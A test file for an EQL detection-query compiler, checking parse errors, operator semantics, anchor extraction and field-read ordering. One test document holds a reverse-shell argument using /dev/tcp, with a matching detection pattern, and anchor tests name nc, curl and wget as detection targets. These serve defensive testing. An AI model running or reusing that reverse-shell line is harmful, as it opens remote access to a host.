import { describe, expect, it } from "vitest";
import { anchorsOf } from "../../../src/eql/analysis.js";
import { compileEql, Deferred, EqlError } from "../../../src/eql/compile.js";
import type { EqlExpr } from "../../../src/eql/parser.js";

const test = (where: string, doc: Record<string, unknown>) => compileEql(`process where ${where}`).test(doc);

describe("compileEql: parse and compile errors", () => {
  const cases: [string, RegExp][] = [
    ["sequence by process.entity_id [process where true] [network where true]", /^a sequence is not a single-event query.* at 1:1$/],
    ["sample by host.id [process where true]", /^sample queries are not supported.* at 1:1$/],
    ["sequence [process where true]", /^a sequence needs at least two steps at 1:30$/],
    ["sequence with maxspan=5 [process where true] [process where true]", /^maxspan needs a time unit .* at 1:25$/],
    ["sequence [process where true] by a [process where true] by a, b", /^every step of a sequence needs the same number of by keys/],
    ["sequence [process where true] with runs=101 [process where true]", /^runs must be an integer from 1 to 100 at 1:31$/],
    ['process where process.name == "a" | head 5', /^pipes \(\|\) are not supported at 1:35$/],
    ['process where fooBar(process.name, "b")', /^function foobar\(\) is not supported at 1:15$/],
    ['process where process.name == length("x", "y")', /^length\(\) takes 1 arguments, got 2 at 1:31$/],
    ['process where cidrMatch(destination.ip, "10.0.0.0/33")', /^cidrMatch\(\) needs CIDR blocks as string literals, got "10.0.0.0\/33" at 1:15$/],
    ['process where cidrMatch(destination.ip, source.ip)', /^cidrMatch\(\) needs CIDR blocks .* at 1:15$/],
    ['process where number(process.name, 99) == 1', /^number\(\)'s base must be .* at 1:15$/],
    ['process where length~(process.name) == 1', /^length~\(\) has no case-insensitive form at 1:15$/],
    [`process where ${"(".repeat(3000)}true${")".repeat(3000)}`, /^nested deeper than 100 levels at 1:115$/],
    [`process where ${"not ".repeat(100_000)}true`, /^nested deeper than 100 levels at 1:415$/],
    [`process where ${"length(".repeat(200)}a${")".repeat(200)} == 1`, /^nested deeper than 100 levels at 1:\d+$/],
    ['process where process.name == "\\u{110000}"', /^\\u\{…\} escape beyond U\+10FFFF in string at 1:32$/],
    ['process where process.name regex """a\\1"""', /^invalid regex .*backreferences are not supported at 1:28$/],
    ['process where process.name regex "(?=a)"', /^invalid regex .*\(\?…\) groups are not supported at 1:28$/],
    ['process where process.name regex "a{1,20000}"', /^invalid regex .*repetition count too large at 1:28$/],
    ['process where process.name regex "(a{1,1000}){1,1000}"', /^invalid regex .*more than 10000 NFA states at 1:28$/],
    ['process where process.name ~= "a"', /^unknown operator "~" after process.name at 1:28$/],
    ['process where process.name = "a"', /^unknown operator "=" after process.name at 1:28$/],
    ['process where process.name contains "a"', /^unknown operator "contains" after process.name at 1:28$/],
    ['process where\n  process.name == "a" and\n  process.pid === 3', /^expected a value, found "=" at 3:17$/],
    ["process where process.name in (process.parent.name)", /^in lists of fields or functions \(process.parent.name\) are not supported at 1:32$/],
    ['process where (process.name == "a"', /^expected "\)" to close the parenthesis, found end of query at 1:35$/],
    ['process where process.name == "a', /^unterminated string at 1:31$/],
    ["process where process.name", /needs an operator .* at 1:27$/],
    ['process process.name == "a"', /^expected "where" after the event category/],
    ['where process.name == "a"', /^expected an event category/],
    ["process where", /^unexpected end of query at 1:14$/],
    ['process where process.name regex "("', /^invalid regex "\(".* at 1:28$/],
    ['process where process.name in "a"', /^expected "\(" after in/],
  ];
  const titled = cases.map(([query, message]): [string, string, RegExp] => [query.length > 90 ? `${query.slice(0, 90)}…` : query, query, message]);
  it.each(titled)("%s", (_title, query, message) => {
    let thrown: unknown;
    try {
      compileEql(query);
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(EqlError);
    const err = thrown as EqlError;
    expect(err.message).toMatch(message);
    expect(err.message).not.toContain("\n");
    expect(err.line).toBeGreaterThanOrEqual(1);
  });

  it("50,000 ands or ors are a flat list: compiled and evaluated without exhausting the stack", () => {
    const ands = compileEql(`process where ${Array.from({ length: 50_000 }, () => "a == 1").join(" and ")}`);
    expect(ands.test({ a: 1 })).toBe(true);
    expect(ands.test({ a: 2 })).toBe(false);
    const ors = compileEql(`process where ${Array.from({ length: 50_000 }, (_, i) => `a == ${i + 1}`).join(" or ")}`);
    expect(ors.test({ a: 50_000 })).toBe(true);
  });

  it("reports category and fields", () => {
    const compiled = compileEql('PROCESS where a.b == 1 and (c : "x" or not a.b in (2, 3))');
    expect(compiled.category).toBe("process");
    expect(compiled.fields).toEqual(["a.b", "c"]);
  });
});

describe("literals", () => {
  it.each([
    [`s == "a\\"b"`, { s: 'a"b' }, true],
    [`s == 'it''s'`.replace("''", "\\'"), { s: "it's" }, true],
    [`s == """raw \\n "q" """`, { s: 'raw \\n "q" ' }, true],
    [`s == "tab\\there"`, { s: "tab\there" }, true],
    ["n == 42", { n: 42 }, true],
    ["n == -1.5", { n: -1.5 }, true],
    ['n == "42"', { n: 42 }, false],
    ["b == true", { b: true }, true],
    ["b == false", { b: true }, false],
    ["b == TRUE", { b: true }, true],
  ])("%s on %j → %s", (where, doc, expected) => {
    expect(test(where, doc)).toBe(expected);
  });
});

describe("operator truth tables", () => {
  const doc = {
    process: {
      name: "Bash",
      pid: 10,
      args: ["nohup", "bash -c 'x >& /dev/tcp/h/1 0>&1'"],
      empty: [],
      nothing: null,
      parent: { name: "sh" },
    },
  };
  const rows: [string, boolean][] = [
    // == / != are case-sensitive
    ['process.name == "Bash"', true],
    ['process.name == "bash"', false],
    ['process.name != "bash"', true],
    ['process.name != "Bash"', false],
    ['process.parent.name == "sh"', true],
    // in / in~ / not in
    ['process.name in ("zsh", "Bash")', true],
    ['process.name in ("bash")', false],
    ['process.name in~ ("BASH")', true],
    ['process.name not in ("bash")', true],
    ['process.name not in ("Bash", "x")', false],
    ['process.name not in~ ("bash")', false],
    // : is a case-insensitive whole-value wildcard
    ['process.name : "bash"', true],
    ['process.name : "BA*"', true],
    ['process.name : "as"', false],
    ['process.name : "*as*"', true],
    ['process.name : "b?sh"', true],
    ['process.name : "b?h"', false],
    ['process.name : "b??sh"', false],
    ['process.name : ("zsh", "ba*")', true],
    ['process.name : ("zsh", "ksh")', false],
    // * spans "/"
    ['process.args : "*/dev/tcp/*0>&1*"', true],
    ['process.args : "*/DEV/TCP/*"', true],
    // like is case-sensitive, like~ not
    ['process.name like "B*"', true],
    ['process.name like "b*"', false],
    ['process.name like~ "b*"', true],
    ['process.name like ("x", "Ba?h")', true],
    // regex / regex~ whole-value
    ['process.name regex "B.*h"', true],
    ['process.name regex "as"', false],
    ['process.name regex "b.*"', false],
    ['process.name regex~ "b.*"', true],
    // ordering
    ["process.pid > 9", true],
    ["process.pid >= 10", true],
    ["process.pid < 10", false],
    ["process.pid <= 10", true],
    ['process.pid > "9"', false],
    ['process.name < "C"', true],
    // arrays: any element; never joined
    ['process.args == "nohup"', true],
    ['process.args != "nohup"', false],
    ['process.args != "other"', true],
    ['process.args in ("x", "nohup")', true],
    ['process.args : "nohup*bash*"', false],
    ['process.args : "NOHUP"', true],
    // missing field: comparisons false
    ['process.missing == "a"', false],
    ['process.missing != "a"', true],
    ['process.missing in ("a")', false],
    ['process.missing not in ("a")', true],
    ['process.missing not in~ ("a")', true],
    ['not process.missing != "a"', false],
    ['process.missing : "*"', false],
    ["process.missing > 1", false],
    ['not process.missing == "a"', true],
    ['process.empty == "a"', false],
    ['process.empty != "a"', true],
    // inherited members are not fields
    ["process.__proto__ != null", false],
    ["process.__proto__ == null", true],
    ["process.constructor != null", false],
    ['process.name.length == 4', false],
    ["toString == null", true],
    ['process.name.deeper == "a"', false],
    // null
    ["process.missing == null", true],
    ["process.nothing == null", true],
    ["process.name == null", false],
    ["process.name != null", true],
    ["process.nothing != null", false],
    ["process.missing != null", false],
    ['process.nothing : "*"', false],
    ["process.nothing in (null)", true],
    // boolean structure and precedence
    ['process.name == "Bash" and process.pid == 10', true],
    ['process.name == "x" or process.pid == 10', true],
    ['process.name == "x" or process.pid == 10 and process.name == "y"', false],
    ['(process.name == "x" or process.pid == 10) and process.name == "Bash"', true],
    ['not process.name == "x" and not (process.pid == 11)', true],
    ['not not process.name == "Bash"', true],
  ];
  it.each(rows)("%s → %s", (where, expected) => {
    expect(test(where, doc)).toBe(expected);
  });

  it("a frozen array (shared by documents, so its answer is kept) matches exactly as an unfrozen one, document after document", () => {
    const q = compileEql(`process where process.thread.capabilities.effective : "CAP_SET?ID" and user.id != "0"`);
    const root = Object.freeze(["CAP_CHOWN", "CAP_SETGID", "CAP_SETUID"]);
    const none = Object.freeze(["CAP_CHOWN", "CAP_NET_RAW"]);
    const doc = (effective: readonly string[], uid: string) => ({ process: { thread: { capabilities: { effective } } }, user: { id: uid } });
    for (let round = 0; round < 3; round++) {
      expect(q.test(doc(root, "1000"))).toBe(true);
      expect(q.test(doc([...root], "1000"))).toBe(true);
      expect(q.test(doc(none, "1000"))).toBe(false);
      expect(q.test(doc([...none], "1000"))).toBe(false);
      expect(q.test(doc(root, "0"))).toBe(false);
    }
    expect(test(`process.name : "ba?h"`, { process: { name: Object.freeze(["zsh", "bash"]) } })).toBe(true);
    expect(test(`not process.name : "ba?h"`, { process: { name: Object.freeze(["zsh"]) } })).toBe(true);
  });

  it("wildcard metacharacters are literal", () => {
    expect(test('s : "a.c"', { s: "abc" })).toBe(false);
    expect(test('s : "(x)+[y]"', { s: "(x)+[y]" })).toBe(true);
    expect(test('s : "a*"', { s: "a\nb" })).toBe(true);
    // Characters a unicode-mode RegExp refuses to see escaped ('-', '/') stay literal too.
    expect(test('s : "--socks5-*/x"', { s: "--socks5-hostname/x" })).toBe(true);
    expect(test('s like "a-b"', { s: "a-b" })).toBe(true);
  });

  it("?field (optional) reads the field like any other", () => {
    expect(test('?process.parent.name == "bash"', { process: { parent: { name: "bash" } } })).toBe(true);
    expect(test('not ?process.parent.executable in ("/x")', {})).toBe(true);
    expect(compileEql('process where ?a.b : "x" and c == 1').fields).toEqual(["a.b", "c"]);
  });

  it("flat dotted keys are found too", () => {
    expect(test('process.name == "x"', { "process.name": "x" })).toBe(true);
  });
});

describe("anchorsOf (what a document's process.name must be for the query to hold)", () => {
  const rank = (field: string) => (field === "process.name" ? 0 : undefined);
  /** Anchors as `kind:value`, `~` marking a case-folded one. */
  const anchors = (where: string) =>
    anchorsOf(compileEql(`process where ${where}`).where, rank)?.map((a) => `${a.kind}:${a.value}${a.caseInsensitive ? "~" : ""}`).sort();
  const rows: [string, string[] | undefined][] = [
    ['process.name in ("setsid", "nohup") and process.args : "*x*"', ["exact:nohup", "exact:setsid"]],
    ['process.name == "nc"', ["exact:nc"]],
    ['process.name in~ ("Curl", "wget")', ["exact:curl~", "exact:wget~"]],
    ['process.name : ("Curl", "wget")', ["exact:curl~", "exact:wget~"]],
    ['process.name like "nc"', ["exact:nc"]],
    ['process.name : "nc*"', ["prefix:nc~"]],
    ['process.name : "n?"', ["prefix:n~"]],
    ['process.name : "*.py"', ["suffix:.py~"]],
    ['process.name like ("python*", "*sh")', ["prefix:python", "suffix:sh"]],
    // and: any item's anchors hold for the whole; or: every item needs its own.
    ['process.name in ("a", "b", "c") and (process.name == "a" or process.pid > 1)', ["exact:a", "exact:b", "exact:c"]],
    ['process.name == "a" or process.name in~ ("B")', ["exact:a", "exact:b~"]],
    ['process.name == "a" or process.pid == 1', undefined],
    ['process.name : "*"', undefined],
    ['not process.name == "a"', undefined],
    ['process.name not in ("a")', undefined],
    ['process.name != "a"', undefined],
    ['process.executable == "/bin/nc"', undefined],
  ];
  it.each(rows)("%s", (where, expected) => {
    expect(anchors(where)).toEqual(expected);
  });

  it("a branch that can never hold needs no anchor; a query that can never hold has none", () => {
    // As shapes.ts answers it: no document carries auditd.*, so a condition on it never holds.
    const possible = (part: EqlExpr) => part.type === "and" || part.type === "or" || !JSON.stringify(part).includes("auditd");
    const where = (text: string) => compileEql(`process where ${text}`).where;
    expect(anchorsOf(where('auditd.data.syscall == "unshare" or process.name == "unshare"'), rank, possible)).toEqual([
      { field: "process.name", kind: "exact", value: "unshare", caseInsensitive: false },
    ]);
    expect(anchorsOf(where('auditd.data.syscall == "unshare" and process.name == "x"'), rank, possible)).toEqual([]);
  });
});

describe("costly fields are read last", () => {
  const where = 'process.env_vars : "LD_PRELOAD=*" and (process.working_directory : "/tmp/*" or process.name == "b") and process.name in ("a", "b")';
  const run = (name: string, costlyField?: (path: string) => boolean) => {
    const reads: string[] = [];
    const deferred = (field: string, value: unknown) => new Deferred(() => (reads.push(field), value));
    const doc = { process: { name, env_vars: deferred("env_vars", ["LD_PRELOAD=x"]), working_directory: deferred("working_directory", "/tmp/x") } };
    const holds = compileEql(`process where ${where}`, costlyField ? { costlyField } : {}).test(doc);
    return { holds, reads };
  };
  const costly = (path: string) => path === "process.env_vars" || path === "process.working_directory";

  it("a cheap condition that fails first spares the reads", () => {
    expect(run("c", costly)).toEqual({ holds: false, reads: [] });
    expect(run("c")).toEqual({ holds: false, reads: ["env_vars", "working_directory"] });
  });

  it("the answer is the same in either order", () => {
    expect(run("b", costly)).toEqual({ holds: true, reads: ["env_vars"] });
    expect(run("a", costly)).toEqual({ holds: true, reads: ["env_vars", "working_directory"] });
    expect(run("a").holds).toBe(true);
  });
});
